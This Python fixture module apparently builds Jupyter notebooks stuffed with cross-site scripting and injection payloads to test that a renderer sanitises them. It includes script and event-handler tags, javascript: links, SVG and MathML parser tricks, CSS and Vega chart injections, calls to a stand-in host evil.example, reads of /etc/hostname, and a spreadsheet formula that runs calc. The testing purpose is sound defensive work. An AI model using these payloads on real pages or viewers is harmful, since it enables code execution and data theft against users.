"""What strangers may put into a notebook to run code or to call home when a page is opened.

Each says `hit()` or asks `https://evil.example` for something where it is not cleaned away.
"""

import base64
import itertools
from typing import Any

import nbformat

FAR = "https://evil.example"
HIT = "window.hit=1"
_numbers = itertools.count()


def _coded(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
    f'width="9" height="9" onload="{HIT};alert(1)"><script>{HIT};fetch("{FAR}/s")</script>'
    f'<image xlink:href="{FAR}/i.png" href="{FAR}/j.png" width="9" height="9"/>'
    f'<style>@import url("{FAR}/k.css");rect{{fill:url({FAR}/l#m)}}</style><rect width="9"/>'
    f'<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="{FAR}/f"/></foreignObject>'
    f'<use href="{FAR}/u.svg#x"/><a href="javascript:{HIT}"><text>x</text></a>'
    f'<animate attributeName="href" values="javascript:{HIT}" begin="0s"/></svg>'
)

# Each stands in a Markdown cell, an HTML output, a Markdown output and a raw cell.
HTML = {
    "script": f"<script>{HIT};alert(1)</script>",
    "script in another case": f"<ScRiPt\n>{HIT}</sCrIpT\t><script/src={FAR}/a.js></script>",
    "script in pieces": f"<scr<script>ipt>{HIT}</scr</script>ipt><<script>{HIT}//<</script>",
    "unclosed script": f"<p>before<script>{HIT}//",
    "handler": f'<img src=x onerror="{HIT}"><p onclick="{HIT}" onmouseover={HIT}>x</p>',
    "handler after a slash": f'<img/src="x"/onerror={HIT}><details/open/ontoggle={HIT}>x</details>',
    "handler on the body": f'<body onload={HIT} onpageshow="{HIT}"><html onclick={HIT}>',
    "audio and video": f"<video src={FAR}/v onerror={HIT} poster={FAR}/p></video><audio "
    f"src={FAR}/a autoplay onerror={HIT}></audio><video><source src={FAR}/w onerror={HIT}></video>",
    "javascript link": f'<a href="javascript:{HIT}">a</a><a href=" JaVaScRiPt:{HIT}">b</a>',
    "javascript link, spelt": f'<a href="java&#10;script:{HIT}">a</a><a '
    f'href="&#x6A;avascript&colon;{HIT}">b</a><a href="\x01javascript:{HIT}">c</a>'
    f"[d](javascript:{HIT})",
    "vbscript and data links": f'<a href="vbscript:msgbox(1)">a</a><a href="data:text/html,<script>'
    f'{HIT}</script>">b</a>[c](data:text/html;base64,{_coded(f"<script>{HIT}</script>")})',
    "iframe": f'<iframe src="{FAR}/f"></iframe><iframe srcdoc="<script>parent.{HIT}</script>">'
    f'</iframe><iframe src="javascript:parent.{HIT}"></iframe>',
    "object, embed, applet": f'<object data="{FAR}/o"></object><embed src="{FAR}/e">'
    f'<applet code="{FAR}/p"></applet><object data="data:text/html,<script>{HIT}</script>">',
    "frames": f'<frameset><frame src="{FAR}/f"></frameset><portal src="{FAR}/p"></portal>',
    "base": f'<base href="{FAR}/"><a href="#x">a</a><img src="relative.png">',
    "refresh": f'<meta http-equiv="refresh" content="0;url={FAR}/r">',
    "policy of one's own": '<meta http-equiv="Content-Security-Policy" content="img-src *">',
    "link": f'<link rel="stylesheet" href="{FAR}/a.css"><link rel="import" href="{FAR}/i">'
    f'<link rel="preload" as="script" href="{FAR}/p.js"><link rel="prefetch" href="{FAR}/q">',
    "style sheet": f'<style>@import "{FAR}/a.css"; body{{background:url({FAR}/b)}} @font-face'
    f"{{font-family:x;src:url({FAR}/f)}} p{{font-family:x}}</style><p>x</p>",
    "style attribute": f'<p style="background:url({FAR}/a)">x</p><td style="text-align:left;'
    f'background:url({FAR}/b)"><p style="width:expression({HIT})">x</p>'
    f'<p style="background:u\\72l({FAR}/c);position:fixed;inset:0">x</p>',
    "background attribute": f'<table background="{FAR}/t"><tr><td background="{FAR}/u">x</table>',
    "form": f'<form action="{FAR}/f"><button formaction="javascript:{HIT}">b</button><input '
    f'type=image src="{FAR}/i.png" onerror={HIT}><input autofocus onfocus={HIT}><select autofocus '
    f"onfocus={HIT}></select><textarea autofocus onfocus={HIT}></textarea></form>",
    "focus": f'<p tabindex=1 autofocus onfocus="{HIT}">x</p><p contenteditable onblur={HIT}>y</p>',
    "SVG": SVG,
    "SVG, unclosed": f'<svg onload="{HIT}"><g onload={HIT}><image href="{FAR}/i.png">',
    "SVG that animates a link": f'<svg><a><animate attributeName=href values="javascript:{HIT}"/>'
    f"<text y=20>x</text></a><set attributeName=onmouseover to={HIT} /></svg>",
    "SVG that is not XML": f'<svg viewBox=0><p>x<img src=x onerror="{HIT}"></svg>'
    f"<svg/onload={HIT}>",
    "SVG in an address": f"<img src='data:image/svg+xml,{SVG.replace(chr(39), '')}'>"
    f"![x](data:image/svg+xml;base64,{_coded(SVG)})",
    "MathML that links": f'<math href="javascript:{HIT}" xlink:href="javascript:{HIT}"><mi '
    f'href="{FAR}/m">x</mi><maction actiontype="statusline#{FAR}" xlink:href="javascript:{HIT}">'
    "<mn>1</mn></maction></math>",
    "MathML that turns to HTML": f"<math><mtext><table><mglyph><style><!--</style><img title="
    f"'--&gt;&lt;img src=1 onerror={HIT}&gt;'>",
    "MathML that holds HTML": f"<math><annotation-xml encoding='text/html'><img src=x "
    f"onerror={HIT}></annotation-xml><![CDATA[<img src=x onerror={HIT}>]]></math>",
    "noscript": f"<noscript><p title='</noscript><img src=x onerror={HIT}>'></noscript>",
    "template": f"<template><img src=x onerror={HIT}></template><template shadowrootmode=open>"
    f"<script>{HIT}</script></template><slot onslotchange={HIT}></slot>",
    "text that ends early": f"<title><p title='</title><img src=x onerror={HIT}>'></title>"
    f"<textarea><p title='</textarea><img src=x onerror={HIT}>'></textarea>"
    f"<xmp><p title='</xmp><img src=x onerror={HIT}>'></xmp>"
    f"<noembed><img title='</noembed><img src=x onerror={HIT}>'></noembed>",
    "comments": f"<!--><img src=x onerror={HIT}>--><!-- --!><img src=x onerror={HIT}><?x "
    f"?><img src=x onerror={HIT}>?><![CDATA[<img src=x onerror={HIT}>]]>",
    "plain text": f"<plaintext><img src=x onerror={HIT}>",
    "picture sources": f'<img srcset="{FAR}/a.png 1x" src=""><picture><source srcset="{FAR}/b.png">'
    f'<img src="{FAR}/c.png" alt="c"></picture><img src="//evil.example/d.png" lowsrc="{FAR}/e">',
    "Markdown pictures": f"![a]({FAR}/a.png) ![b](//evil.example/b.png) ![c](javascript:{HIT}) "
    f'![d"onerror="{HIT}](x) ![e](x"onerror="{HIT}) ![f](x "t\\"onerror={HIT}")',
    "a file of this machine": "<img src='file:///etc/hostname'>![x](/etc/hostname) "
    "![y](../../../../../../etc/hostname) <img src='..\\..\\x.png'>",
    "ping": f'<a href="#x" ping="{FAR}/p" target="_blank" download>a</a>'
    f'<map><area href="javascript:{HIT}" ping="{FAR}/q"></map>',
    "broken attributes": f'<p title="\'><img src=x onerror={HIT}>">x</p><p title=`x` id="y" '
    f'class=\'"><script>{HIT}</script>\'>y</p><a title=\'" onmouseover="{HIT}\' href="#">z</a>',
    "names of the page": '<p id="main"></p><p id="figure-1"></p><img id="vegaEmbed" name="body">',
    "citation": f'[@kbs"><script>{HIT}</script>] [@kbs, <img src=x onerror={HIT}>]',
    "footnote": f'x[^"><script>{HIT}</script>] y[^1]\n\n[^1]: <img src=x onerror={HIT}>\n\n'
    f'<section class="footnotes"><ol><li id=\'"]\'>z</li></ol></section>'
    '<sup class="footnote-ref"></sup>',
    "callout and fences": f"> [!NOTE]\n> <script>{HIT}</script>\n\n```<script>{HIT}</script>\n"
    f"</code></pre><script>{HIT}</script>\n```\n\n```mermaid\n<img src=x onerror={HIT}>\n```\n",
    "TeX": f'$\\href{{javascript:{HIT}}}{{x}}$ $\\text{{<script>{HIT}</script>}}$ $\\class{{"><img '
    f'src=x onerror={HIT}>}}{{y}}$ $\\style{{background:url({FAR}/s)}}{{z}}$ $\\textcolor{{"><img '
    f"src=x onerror={HIT}>}}{{w}}$ $$\\text{{&lt;img src=x onerror={HIT}&gt;}}$$",
    "broken TeX": f"$\\nosuch{{<script>{HIT}</script>}}$ $$\\frac{{<img src=x onerror={HIT}>$$",
}


def _cell(kind: str, source: str, metadata: Any = None, **more: Any) -> Any:
    """Return a cell, which need not be one that Jupyter would write."""
    made = {"cell_type": kind, "source": source, "metadata": metadata or {}, **more}
    made["id"] = f"cell-{next(_numbers)}"
    return nbformat.from_dict(made)


def _code(*outputs: Any, source: str = "1", **metadata: Any) -> Any:
    return _cell("code", source, metadata, outputs=list(outputs), execution_count=1)


def _shown(data: Any, **metadata: Any) -> Any:
    return {"output_type": "display_data", "data": data, "metadata": metadata}


def _chart(mark: Any, encoding: Any = None, **more: Any) -> list[Any]:
    values = [{"a": 1, "u": f"{FAR}/u.png", "h": f"javascript:{HIT}", "t": f"<img onerror={HIT}>"}]
    x = {"field": "a", "type": "quantitative"}
    spec = {"data": {"values": values}, "mark": mark, "encoding": {"x": x, **(encoding or {})}}
    data = {"application/vnd.vegalite.v5+json": {**spec, **more}, "text/plain": "chart"}
    return [_code(_shown(data))]


def everywhere(payload: str) -> list[Any]:
    """Return cells that hold a piece of HTML in each place where HTML may be."""
    return [
        _cell("markdown", payload),
        _cell("markdown", f"- item\n\n  {payload}\n\n| a |\n|---|\n| {payload} |\n\n# {payload}"),
        _code(_shown({"text/html": payload, "text/plain": payload})),
        _code(_shown({"text/markdown": payload})),
        _cell("raw", payload, {"format": "text/html"}),
        _cell("raw", payload),
    ]


_BAD = f'"><img src=x onerror={HIT}><script>{HIT}</script>'
_OURS = {"table": {"columns": [_BAD], "rows": [[_BAD], ["=cmd|' /C calc'!A0"]]}, "source": _BAD}
_IMAGE = {"type": "image", "width": 9, "height": 9}
_URL = f"url({FAR}/p#q)"

_SOMETHING = {"text/plain": "x"}
_ROLE = {"role": "unanswered"}

# Outputs that hold something else than HTML.
OUTPUTS: dict[str, list[Any]] = {
    "SVG output": [_shown({"image/svg+xml": SVG})],
    "PNG output that is none": [_shown({"image/png": _BAD, "text/plain": _BAD})],
    "JavaScript output": [_shown({"application/javascript": HIT, "text/plain": _BAD})],
    "JSON output": [_shown({"application/json": {_BAD: [_BAD]}})],
    "LaTeX output": [_shown({"text/latex": f"{_BAD} ${_BAD}$ $$\\text{{{_BAD}}}$$"})],
    "lists of lines": [_shown({"text/html": [_BAD, "<scr", f"ipt>{HIT}"], "image/png": [_BAD]})],
    "unknown output": [_shown({_BAD: _BAD})],
    "printed": [{"output_type": "stream", "name": _BAD, "text": f"\x1b]8;;{FAR}\x07{_BAD}"}],
    "error": [{"output_type": "error", "ename": _BAD, "evalue": _BAD, "traceback": [_BAD]}],
    "widget": [_shown({"application/vnd.jupyter.widget-view+json": _BAD, "text/plain": _BAD})],
    "metadata of outputs": [
        _shown(_SOMETHING, coursebook={"role": _BAD}, **{"text/plain": _BAD}),
        _shown({"image/png": "AAAA"}, **{"image/png": {"alt": _BAD, "width": _BAD, "height": {}}}),
        _shown({"image/png": "AAAA"}, coursebook=_BAD),
        _shown(_SOMETHING, coursebook={**_ROLE, "task": _BAD, "right": _BAD}),
    ],
    "Vega": [
        _shown(
            {
                "application/vnd.vega.v5+json": {"marks": [{"type": "image", "url": FAR}]},
                "text/html": f"<div id=v></div><script>{HIT}</script>",
            }
        )
    ],
}
CHARTS: dict[str, list[Any]] = {
    "chart with links": _chart("bar", {"href": {"field": "h"}}),
    "chart with links to far": _chart("bar", {"href": {"value": FAR}}),
    "chart with far pictures": _chart({"type": "image"}, {"url": {"field": "u"}}),
    "chart with a picture of this machine": _chart({**_IMAGE, "url": "file:///etc/hostname"}),
    "chart with a picture beside it": _chart({**_IMAGE, "url": "../secret.png"}),
    "chart with an SVG as picture": _chart(
        {**_IMAGE, "url": f"data:image/svg+xml;base64,{_coded(SVG)}"}
    ),
    "chart with far colours": _chart(
        {"type": "bar", "fill": _URL, "stroke": f"u\\72l({FAR}/c)", "cursor": f"{_URL},auto"},
        background=_URL,
        config={"view": {"fill": _URL}},
    ),
    "chart with a style": _chart({"type": "bar", "blend": f"multiply;background:{_URL}"}),
    "chart with texts": _chart(
        {"type": "text", "tooltip": True, "description": _BAD, "font": f"x;background:{_URL}"},
        {"text": {"field": "t"}, "tooltip": {"field": "t"}},
        title={"text": [_BAD], "subtitle": _BAD},
        description=_BAD,
    ),
    "chart that claims to be ours": _chart(
        {"type": "point", "fill": _URL}, usermeta={"coursebook": _OURS}, title=_BAD
    ),
    "chart that runs code": _chart(
        "bar", transform=[{"calculate": f"constructor.constructor('{HIT}')()", "as": "b"}]
    ),
    "chart that ends its process": _chart({"type": "text", "text": "x", "fontWeight": _BAD}),
    "chart with far data": _chart("bar", data={"url": f"{FAR}/d.csv"}),
    "chart with data of this machine": _chart("bar", data={"url": "file:///etc/hostname"}),
}
CELLS: dict[str, list[Any]] = {
    "code": [_code(source=f"'{_BAD}' # </code></pre>{_BAD}")],
    "unanswered": [_code(_shown(_SOMETHING, coursebook=_ROLE), source=f'check("05-1{_BAD}", 1)')],
    "metadata of cells": [
        _code(_shown({"image/png": "AAAA"}), tags=[_BAD, "exercise"], alt=_BAD, name=_BAD),
        _cell("markdown", "x", {"tags": ["exercise", _BAD], "format": _BAD, "name": _BAD}),
    ],
    "attachments of a wrong type": [
        _cell(
            "markdown",
            "![a](attachment:a) ![b](attachment:b) <img src='attachment:c'> [d](attachment:a)",
            attachments={
                "a": {"text/html": _coded(f"<script>{HIT}</script>")},
                "b": {"image/svg+xml": _coded(SVG)},
                "c": {f'image/png" onerror="{HIT}': "x", "image/png": _BAD},
            },
        )
    ],
}
ALL: dict[str, list[Any]] = {
    **{name: everywhere(html) for name, html in HTML.items()},
    **{name: [_code(*outputs)] for name, outputs in OUTPUTS.items()},
    **CHARTS,
    **CELLS,
}
